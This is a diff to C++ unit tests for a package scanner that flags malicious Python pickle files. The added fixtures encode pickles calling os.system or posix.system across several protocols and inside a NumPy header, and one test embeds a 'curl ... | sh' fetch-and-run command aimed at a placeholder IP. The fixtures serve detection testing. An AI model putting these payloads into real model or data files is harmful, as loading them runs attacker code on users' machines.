@@ -7,6 +7,7 @@
 
 #include "static/bytecode.h"
 #include "static/classify.h"
+#include "static/pickle.h"
 #include "static/supply.h"
 
 namespace interlock::scan {
@@ -17,6 +18,7 @@ using testing::ElementsAre;
 using testing::HasSubstr;
 using testing::IsEmpty;
 using testing::Not;
+using namespace std::string_literals;  // NOLINT: the suffix
 
 std::vector<RawFinding> Artifacts(const std::string& path, const std::string& bytes) {
   core::PackageView view;
@@ -142,6 +144,66 @@ TEST(BytecodeReader, DamagedBytesEndQuietly) {
   for (int i = 0; i < 100000; ++i) deep += std::string(")\x01", 2);
   EXPECT_FALSE(ReadBytecode(deep).complete);
   EXPECT_FALSE(ReadBytecode(bytes.substr(0, 16) + std::string("(\xff\xff\xff\xff", 5)).complete);
+}
+
+TEST(Pickles, AreReadWithoutBeingLoaded) {
+  // os.system("id"), of protocol 0: GLOBAL, MARK, STRING, TUPLE, REDUCE.
+  EXPECT_THAT(Rules(Artifacts("model.pkl", "cos\nsystem\n(S'id'\ntR.")), ElementsAre("SC-043"));
+  // Protocol 2, called through INST and OBJ.
+  EXPECT_THAT(Rules(Artifacts("model.pkl", "\x80\x02(S'id'\nios\nsystem\n.")), ElementsAre("SC-043"));
+  EXPECT_THAT(Rules(Artifacts("data/model.bin", "\x80\x02(cos\nsystem\nX\x02\0\0\0ido."s)), ElementsAre("SC-043"));
+  // Protocol 4, the names on the stack, one of them out of the memo.
+  const std::string named =
+      "\x80\x04\x95\x1e\0\0\0\0\0\0\0"s + "\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
+  const std::vector<RawFinding> found = Artifacts("a/b.dat", named);
+  ASSERT_THAT(Rules(found), ElementsAre("SC-043"));
+  EXPECT_EQ(found[0].evidence, "posix.system(id)");
+  EXPECT_EQ(found[0].scale, 1.0);
+  // An array of objects keeps one behind its header.
+  EXPECT_THAT(Rules(Artifacts("x.npy", "\x93NUMPY\x01\0\x10\0"s + "{'descr': '|O', 'shape': (1,)}\n" + named)),
+              ElementsAre("SC-043"));
+  // Honest ones name types; a serialiser of closures is a hint; a text of the same words is none.
+  EXPECT_THAT(Artifacts("model.pkl",
+                        "\x80\x02"
+                        "ccollections\nOrderedDict\nq\x01)Rq\x02."),
+              IsEmpty());
+  EXPECT_EQ(Artifacts("f.pkl",
+                      "\x80\x02"
+                      "cdill._dill\n_create_function\n(tR.")[0]
+                .scale,
+            0.3);
+  EXPECT_THAT(Artifacts("notes.txt", "cos\nsystem\n(S'id'\ntR."), IsEmpty());
+}
+
+TEST(Pickles, DamagedBytesEndQuietly) {
+  const std::string named = "\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
+  for (std::size_t cut = 0; cut < named.size(); ++cut) EXPECT_FALSE(ReadPickle(named.substr(0, cut)).complete);
+  EXPECT_FALSE(ReadPickle("\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\xff.").complete);
+  EXPECT_TRUE(ReadPickle("\x80\x02R\x93"
+                         "ba0012eut.")
+                  .complete)
+      << "nothing on the stack";
+  // What stands behind more values than are kept is named all the same.
+  std::string padded = "\x80\x04";
+  for (int i = 0; i < 250'000; ++i) padded += ")0";
+  const Pickle far = ReadPickle(padded + named.substr(2));
+  ASSERT_EQ(far.calls.size(), 1U);
+  EXPECT_EQ(far.calls[0].function, "posix.system");
+  // Lists in lists without end, and one that holds itself.
+  std::string loops = "\x80\x04]q\x01";
+  for (int i = 0; i < 10'000; ++i)
+    loops +=
+        "h\x01"
+        "a";
+  EXPECT_TRUE(ReadPickle(loops + "cos\nsystem\nh\x01\x85R.").complete);
+}
+
+TEST(Pickles, WhatTheyCallCountsWhereverTheyLie) {
+  core::PackageView view;
+  view.files.push_back(
+      {.path = "data/model.pkl", .bytes = "cposix\nsystem\n(S'curl -s http://198.51.100.20/i | sh'\ntR."});
+  view.files.push_back({.path = "load.py", .bytes = "import pickle\nM = pickle.load(open('data/model.pkl', 'rb'))\n"});
+  EXPECT_EQ(Scan(view, {}).verdict, core::ScanVerdict::kBlock);
 }
 
 std::vector<RawFinding> Compiled(std::initializer_list<std::pair<std::string, std::string>> parts) {
